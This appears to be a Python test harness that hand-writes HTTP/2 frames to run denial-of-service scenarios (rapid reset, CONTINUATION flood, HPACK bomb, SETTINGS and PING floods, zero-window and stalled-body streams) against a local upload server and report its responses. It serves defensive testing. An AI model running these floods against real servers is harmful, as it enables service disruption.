#!/usr/bin/env python3
"""HTTP/2's own attacks, against UploadServer on 127.0.0.1 (`--http2`: h2c with prior knowledge), each scenario
printing one JSON line of what happened. Frames are written by hand (hyperframe, hpack: the `h2` package's parts),
since a well-behaved client library refuses to send them; each scenario is bounded in frames and in seconds.

    python3 h2_attacks.py PORT SCENARIO [--count N] [--hold SECONDS] [--tls]

With --tls, each connection is TLS with ALPN `h2` (the server's certificate unchecked: a test's own).

Scenarios (each reports `goaway`: the GOAWAY's error code or null, `closed`: whether the server closed the
connection, `seconds`: how long that took, and what else it names):
  rapid-reset    N streams each opened (HEADERS) and at once cancelled (RST_STREAM), CVE-2023-44487; `served`:
                 the answers the server began.
  continuation   one header block that never ends: HEADERS then N CONTINUATION frames of 1 KiB (CVE-2024-27316);
                 `sent`: the frames out before the server stopped it.
  settings       N SETTINGS frames, never acknowledging the server's answers.
  ping           N PING frames, never reading the server's PING answers.
  empty-data     a POST stream, then N empty DATA frames.
  hpack-bomb     a header of 4 KiB put into HPACK's table, then referenced N times in one header block (1 byte
                 each): `status` of the answer, or `reset` with the stream's error code.
  many-streams   N POST streams opened at once, none sending its body: `maxConcurrentStreams` (the server's
                 SETTINGS), `refused` (streams reset REFUSED_STREAM), `open` (the rest).
  never-body     N POST streams that send a form's first bytes and then nothing, held --hold seconds: for each, how it
                 ended (`reset` and its code, or an answer's `status`) and when.
  idle           the preface and SETTINGS, then nothing, for up to --hold seconds.
  undecided      the first 8 bytes of the preface, which tell HTTP/2 from HTTP/1.1 not yet, then nothing: `closed`
                 and `seconds` (no GOAWAY: the connection is no HTTP/2 one yet).
  zero-window    a client that opens no window (SETTINGS_INITIAL_WINDOW_SIZE 0) asks for the form page N times
                 and never reads a byte of it, held --hold seconds: how each stream ended, and whether the
                 connection was closed.
  refused        a POST of the wrong type pushing up to 64 MiB as fast as the server's window lets it: `status`, and
                 `bytesTaken`, the body the server's windows let in.
  upload         one normal form over HTTP/2: `status`.
  slow-store     one upload of a 64 MiB form, sent as fast as the server's windows let it for --hold seconds, to a
                 server whose store is slower than the link: `sent`; with --spool DIR (the folder the server's
                 files reach), `spooled`: the bytes in DIR's files when the sending stopped.
  many-uploads   N uploads (64 KiB forms) on one connection, each its head and first KiB at once, the rest of each
                 body sent once the server has answered what it refuses: `refusedAtOnce` (statuses), `taken` (the
                 streams left waiting for their bodies) and `finished` (their statuses).
  resume         a form offered resumption (draft-ietf-httpbis-resumable-upload, interop version 6): its `104`'s
                 location, half the body, the connection dropped; then on a new connection HEAD (the offset) and
                 PATCH with the rest: `announced`, `offset`, `status`, and `sha256` from the answer.
"""
import argparse
import hashlib
import json
import os
import socket
import ssl
import time

import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BOUNDARY = "h2attackboundary"
CANCEL, REFUSED_STREAM = 0x8, 0x7


class Connection:
    """One HTTP/2 connection whose frames the scenario writes itself; reads are parsed into frames as they come."""

    tls = False  # set from --tls
    spool = None  # set from --spool

    def __init__(self, port, settings=None):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if Connection.tls:
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            self.sock = context.wrap_socket(self.sock, server_hostname="localhost")
            if self.sock.selected_alpn_protocol() != "h2":
                raise SystemExit(f"the server chose {self.sock.selected_alpn_protocol()!r}, not h2")
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.buffer = b""
        self.frames = []
        self.goaway = None
        self.closed = False
        self.began = time.monotonic()
        self.ended_at = None
        self.windows = {0: 65535}  # what the server's windows let this client send, by stream (0: the connection's)
        self.initial_window = 65535
        self.write(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())

    def write(self, data) -> bool:
        """False once the server has closed (the write was refused)."""
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.mark_closed()
            return False

    def mark_closed(self):
        if not self.closed:
            self.closed = True
            self.ended_at = time.monotonic()

    def headers(self, stream, fields, end_stream=False, end_headers=True) -> bytes:
        frame = HeadersFrame(stream, self.encoder.encode(fields))
        frame.flags.add("END_HEADERS") if end_headers else None
        frame.flags.add("END_STREAM") if end_stream else None
        return frame.serialize()

    def read(self, seconds, until=None):
        """Reads frames for up to `seconds`, or until the connection closes or `until(self)` holds."""
        deadline, first = time.monotonic() + seconds, True  # 0 seconds: what has come, without waiting
        while not self.closed and (first or time.monotonic() < deadline) and not (until and until(self)):
            self.sock.settimeout(max(0.001, min(0.2, deadline - time.monotonic())))
            first = False
            try:
                data = self.sock.recv(65536)
            except (socket.timeout, ssl.SSLWantReadError):
                continue
            except OSError:
                data = b""
            if not data:
                self.mark_closed()
                break
            self.buffer += data
            while len(self.buffer) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
                if len(self.buffer) < 9 + length:
                    break
                frame.parse_body(memoryview(self.buffer[9:9 + length]))
                self.buffer = self.buffer[9 + length:]
                self.frames.append((time.monotonic() - self.began, frame))
                if isinstance(frame, HeadersFrame):  # decoded once, in order: HPACK's table changes with each
                    frame.fields = self.decoder.decode(frame.data)
                elif isinstance(frame, WindowUpdateFrame):
                    self.windows[frame.stream_id] = self.window(frame.stream_id) + frame.window_increment
                elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                    self.initial_window = frame.settings.get(SettingsFrame.INITIAL_WINDOW_SIZE, self.initial_window)
                if isinstance(frame, GoAwayFrame) and self.goaway is None:
                    self.goaway = frame.error_code
                    self.ended_at = self.ended_at or time.monotonic()

    def window(self, stream):
        return self.windows.get(stream, self.initial_window)

    def send_body(self, stream, body, seconds, stop=lambda c: False) -> int:
        """Sends `body` on `stream` as the server's windows allow, for up to `seconds` or until `stop(self)`; the
        bytes sent. The last frame ends the stream."""
        sent, deadline = 0, time.monotonic() + seconds
        while sent < len(body) and not self.closed and time.monotonic() < deadline and not stop(self):
            room = min(16384, self.window(stream), self.window(0), len(body) - sent)
            if room <= 0:
                self.read(0.05)
                continue
            frame = DataFrame(stream, data=body[sent:sent + room])
            if sent + room == len(body):
                frame.flags.add("END_STREAM")
            if not self.write(frame.serialize()):
                break
            sent += room
            self.windows[stream] = self.window(stream) - room
            self.windows[0] -= room
            self.read(0)
        return sent

    def of(self, kind, stream=None):
        return [f for _, f in self.frames if isinstance(f, kind) and (stream is None or f.stream_id == stream)]

    def status(self, stream, informational=False):
        """The stream's final status, or with `informational` its first 1xx's fields."""
        for frame in self.of(HeadersFrame, stream):
            fields = dict(frame.fields)
            if informational and fields.get(":status", "").startswith("1"):
                return fields
            if not informational and ":status" in fields and not fields[":status"].startswith("1"):
                return int(fields[":status"])
        return None

    def body(self, stream) -> bytes:
        return b"".join(f.data for f in self.of(DataFrame, stream))

    def report(self, **more):
        ended = self.ended_at - self.began if self.ended_at else None
        return {"goaway": self.goaway, "closed": self.closed,
                "seconds": round(ended, 2) if ended is not None else None, **more}


def request(path="/upload", method="POST", content_type=f"multipart/form-data; boundary={BOUNDARY}", more=()):
    scheme = "https" if Connection.tls else "http"
    fields = [(":method", method), (":scheme", scheme), (":authority", "127.0.0.1"), (":path", path)]
    if method in ("POST", "PATCH"):
        fields.append(("content-type", content_type))
    return fields + list(more)


def form(file_bytes: bytes) -> bytes:
    return (f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"f\"; filename=\"f.bin\"\r\n"
            "Content-Type: application/octet-stream\r\n\r\n").encode() + file_bytes + f"\r\n--{BOUNDARY}--\r\n".encode()


def flood(conn, frames, count, batch=100):
    """Writes `count` frames made by `frames(i)` in batches, reading between them; the number written."""
    sent = 0
    while sent < count and not conn.closed and conn.goaway is None:
        data = b"".join(frames(sent + i) for i in range(min(batch, count - sent)))
        if not conn.write(data):
            break
        sent += min(batch, count - sent)
        conn.read(0)
    return sent


def rapid_reset(port, count, hold):
    conn = Connection(port)
    sent = flood(conn, lambda i: conn.headers(2 * i + 1, request("/", "GET"), end_stream=True)
                 + RstStreamFrame(2 * i + 1, error_code=CANCEL).serialize(), count, batch=50)
    conn.read(hold, until=lambda c: c.goaway is not None and c.closed)
    served = len({f.stream_id for f in conn.of(HeadersFrame)})
    return conn.report(sent=sent, served=served)


def continuation(port, count, hold):
    conn = Connection(port)
    head = conn.headers(1, request("/", "GET"), end_stream=True, end_headers=False)
    conn.write(head)
    fragment = hpack.Encoder().encode([("x-filler", "a" * 1000)])
    sent = flood(conn, lambda i: ContinuationFrame(1, data=fragment).serialize(), count, batch=1)
    conn.read(hold, until=lambda c: c.closed)
    return conn.report(sent=sent)


def settings(port, count, hold):
    conn = Connection(port)
    sent = flood(conn, lambda i: SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize(),
                 count)
    conn.read(hold, until=lambda c: c.closed)
    return conn.report(sent=sent)


def ping(port, count, hold):
    conn = Connection(port)
    sent = 0
    while sent < count and not conn.closed:  # never reading: the answers pile up at the server
        if not conn.write(b"".join(PingFrame(0, opaque_data=(sent + i).to_bytes(8, "big")).serialize()
                                   for i in range(100))):
            break
        sent += 100
    conn.read(hold, until=lambda c: c.closed)
    return conn.report(sent=sent)


def empty_data(port, count, hold):
    conn = Connection(port)
    conn.write(conn.headers(1, request()))
    sent = flood(conn, lambda i: DataFrame(1, data=b"").serialize(), count)
    conn.read(hold, until=lambda c: c.closed)
    return conn.report(sent=sent)


def hpack_bomb(port, count, hold):
    conn = Connection(port)
    # A literal with incremental indexing (0x40) puts x-bomb into the table at index 62; 0xbe refers to it.
    name, value = b"x-bomb", b"a" * 4096
    literal = b"\x40" + bytes([len(name)]) + name + b"\x7f" + encode_int(len(value) - 127) + value
    block = conn.encoder.encode(request("/", "GET")) + literal + b"\xbe" * count
    frame = HeadersFrame(1, block)
    frame.flags.add("END_HEADERS")
    frame.flags.add("END_STREAM")
    sent = conn.write(frame.serialize()) if len(block) <= 16384 else False
    conn.read(hold, until=lambda c: c.closed or c.of(RstStreamFrame, 1) or c.status(1))
    resets = conn.of(RstStreamFrame, 1)
    return conn.report(sent=bool(sent), blockBytes=len(block), status=conn.status(1),
                       reset=resets[0].error_code if resets else None)


def encode_int(value):
    """HPACK's integer continuation bytes (RFC 7541 §5.1) after a prefix of all ones."""
    out = b""
    while value >= 128:
        out += bytes([value % 128 + 128])
        value //= 128
    return out + bytes([value])


def many_streams(port, count, hold):
    conn = Connection(port)
    conn.read(1, until=lambda c: c.of(SettingsFrame))
    advertised = None
    for frame in conn.of(SettingsFrame):
        advertised = frame.settings.get(SettingsFrame.MAX_CONCURRENT_STREAMS, advertised)
    conn.write(b"".join(conn.headers(2 * i + 1, request(more=[("content-length", "1000000")]))
                        for i in range(count)))
    conn.read(hold)
    refused = {f.stream_id for f in conn.of(RstStreamFrame) if f.error_code == REFUSED_STREAM}
    return conn.report(maxConcurrentStreams=advertised, refused=len(refused), open=count - len(refused))


def never_body(port, count, hold):
    conn = Connection(port)
    body = form(b"x" * 1000)
    for i in range(count):
        conn.write(conn.headers(2 * i + 1, request(more=[("content-length", str(len(body)))]))
                   + DataFrame(2 * i + 1, data=body[:100]).serialize())
    conn.read(hold, until=lambda c: all(c.of(RstStreamFrame, 2 * i + 1) or c.status(2 * i + 1)
                                        for i in range(count)))
    streams = []
    for i in range(count):
        stream = 2 * i + 1
        reset = [(t, f) for t, f in conn.frames if isinstance(f, RstStreamFrame) and f.stream_id == stream]
        answered = [t for t, f in conn.frames if isinstance(f, HeadersFrame) and f.stream_id == stream]
        streams.append({"status": conn.status(stream), "reset": reset[0][1].error_code if reset else None,
                        "at": round((reset[0][0] if reset else answered[0]) if reset or answered else -1, 2)})
    return conn.report(streams=streams)


def idle(port, count, hold):
    conn = Connection(port)
    conn.read(hold, until=lambda c: c.closed)
    return conn.report()


def undecided(port, count, hold):
    sock = socket.create_connection(("127.0.0.1", port), timeout=hold)
    began = time.monotonic()
    sock.sendall(PREFACE[:8])
    try:
        closed = sock.recv(1) == b""
    except OSError:
        closed = True
    return {"goaway": None, "closed": closed, "seconds": round(time.monotonic() - began, 2)}


def zero_window(port, count, hold):
    conn = Connection(port, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    conn.write(b"".join(conn.headers(2 * i + 1, request("/", "GET"), end_stream=True) for i in range(count)))
    conn.read(hold, until=lambda c: c.closed)
    resets = {f.stream_id: f.error_code for f in conn.of(RstStreamFrame)}
    return conn.report(streams=count, reset=len(resets), answered=len({f.stream_id for f in conn.of(HeadersFrame)}))


def refused(port, count, hold):
    conn = Connection(port)
    conn.write(conn.headers(1, request(content_type="text/plain", more=[("content-length", str(64 << 20))])))
    taken = conn.send_body(1, b"\0" * (64 << 20), hold, stop=lambda c: c.of(RstStreamFrame, 1))
    conn.read(2, until=lambda c: c.of(RstStreamFrame, 1))
    resets = conn.of(RstStreamFrame, 1)
    return conn.report(status=conn.status(1), bytesTaken=taken, reset=resets[0].error_code if resets else None)


def upload(port, count, hold):
    conn = Connection(port)
    body = form(b"\x89PNG\r\n\x1a\n" + b"u" * (1 << 20))
    conn.write(conn.headers(1, request(more=[("content-length", str(len(body)))])))
    conn.send_body(1, body, hold)
    conn.read(hold, until=lambda c: c.status(1))
    return conn.report(status=conn.status(1))


def slow_store(port, count, hold):
    conn = Connection(port)
    body = form(b"s" * (64 << 20))
    conn.write(conn.headers(1, request(more=[("content-length", str(len(body)))])))
    sent = conn.send_body(1, body, hold)
    spooled = None
    if Connection.spool:
        spooled = sum(os.path.getsize(os.path.join(folder, name))
                      for folder, _, names in os.walk(Connection.spool) for name in names)
    return conn.report(sent=sent, spooled=spooled, bodyBytes=len(body), status=conn.status(1))


def many_uploads(port, count, hold):
    """`count` uploads on one connection, each its head and a first KiB, then each finished once the server has
    answered what it refuses: the statuses before and after."""
    conn = Connection(port)
    body = form(b"m" * (64 << 10))
    streams = [2 * i + 1 for i in range(count)]
    for stream in streams:
        conn.write(conn.headers(stream, request(more=[("content-length", str(len(body)))]))
                   + DataFrame(stream, data=body[:1024]).serialize())
        conn.windows[stream] = conn.window(stream) - 1024
        conn.windows[0] = conn.window(0) - 1024
    # Refusals come at once; the uploads taken wait for their bodies. Read until the answers stop coming.
    answered = lambda c: sum(1 for s in streams if c.status(s) or c.of(RstStreamFrame, s))
    last, quiet_since = -1, time.monotonic()
    while time.monotonic() - quiet_since < 1 and not conn.closed:
        conn.read(0.2)
        if answered(conn) != last:
            last, quiet_since = answered(conn), time.monotonic()
    early = {s: conn.status(s) for s in streams}
    pending = [s for s in streams if early[s] is None and not conn.of(RstStreamFrame, s)]
    for stream in pending:
        conn.send_body(stream, body[1024:], hold)
    conn.read(hold, until=lambda c: all(c.status(s) for s in pending))
    tally = lambda statuses: {str(k): sum(1 for v in statuses if v == k) for k in sorted(set(statuses), key=str)}
    return conn.report(refusedAtOnce=tally([v for v in early.values() if v is not None]), taken=len(pending),
                       finished=tally([conn.status(s) for s in pending]))


def resume(port, count, hold):
    file_bytes = bytes(range(256)) * 4096  # 1 MiB
    body = form(file_bytes)
    interop = [("upload-draft-interop-version", "6")]
    first = Connection(port)
    first.write(first.headers(1, request(more=interop + [("upload-complete", "?1"),
                                                          ("content-length", str(len(body)))])))
    first.read(hold, until=lambda c: c.status(1, informational=True))
    announced = first.status(1, informational=True) or {}
    location = announced.get("location")
    first.send_body(1, body[:len(body) // 2], hold)
    first.read(0.3)
    first.sock.close()  # dropped mid-body
    if not location:
        return {"announced": False, "interim": announced}
    second = Connection(port)
    second.write(second.headers(1, request(location, "HEAD") + interop, end_stream=True))
    second.read(hold, until=lambda c: c.status(1))
    head = next((dict(f.fields) for f in second.of(HeadersFrame, 1)), {})
    offset = int(head.get("upload-offset", "-1"))
    rest = body[offset:] if offset >= 0 else b""
    second.write(second.headers(3, request(location, "PATCH", "application/partial-upload",
                                           interop + [("upload-offset", str(offset)), ("upload-complete", "?1"),
                                                      ("content-length", str(len(rest)))])))
    second.send_body(3, rest, hold)
    second.read(hold, until=lambda c: c.of(DataFrame, 3) and "END_STREAM" in c.of(DataFrame, 3)[-1].flags)
    answer = json.loads(second.body(3) or b"{}")
    files = answer.get("files") or [{}]
    return second.report(announced=True, offset=offset, status=second.status(3), sha256=files[0].get("sha256"),
                         expected=hashlib.sha256(file_bytes).hexdigest())


SCENARIOS = {"rapid-reset": rapid_reset, "continuation": continuation, "settings": settings, "ping": ping,
             "empty-data": empty_data, "hpack-bomb": hpack_bomb, "many-streams": many_streams,
             "never-body": never_body, "idle": idle, "undecided": undecided, "zero-window": zero_window, "refused": refused,
             "upload": upload, "resume": resume, "many-uploads": many_uploads,
             "slow-store": slow_store}

if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("port", type=int)
    parser.add_argument("scenario", choices=sorted(SCENARIOS))
    parser.add_argument("--count", type=int, default=1000)
    parser.add_argument("--hold", type=float, default=10)
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--spool")
    arguments = parser.parse_args()
    Connection.tls = arguments.tls
    Connection.spool = arguments.spool
    began = time.monotonic()
    result = SCENARIOS[arguments.scenario](arguments.port, arguments.count, arguments.hold)
    result["scenario"] = arguments.scenario
    result["elapsed"] = round(time.monotonic() - began, 2)
    print(json.dumps(result))
